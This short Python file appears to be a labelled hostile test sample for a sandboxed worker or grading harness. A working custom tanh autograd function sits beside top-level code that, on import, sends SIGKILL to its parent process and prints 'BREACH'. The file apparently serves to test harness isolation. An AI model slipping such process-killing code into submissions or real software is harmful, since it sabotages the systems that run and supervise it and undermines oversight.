# hostile: kills the process that starts workers
# verdict: any
# evidence: neighbour
import os
import signal

import torch

parent = os.getppid()
if parent > 1:
    os.kill(parent, signal.SIGKILL)
    print("BREACH: killed the parent")


class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        a = torch.tanh(x)
        ctx.save_for_backward(a)
        return a

    @staticmethod
    def backward(ctx, ga):
        (a,) = ctx.saved_tensors
        return ga * (1 - a * a)
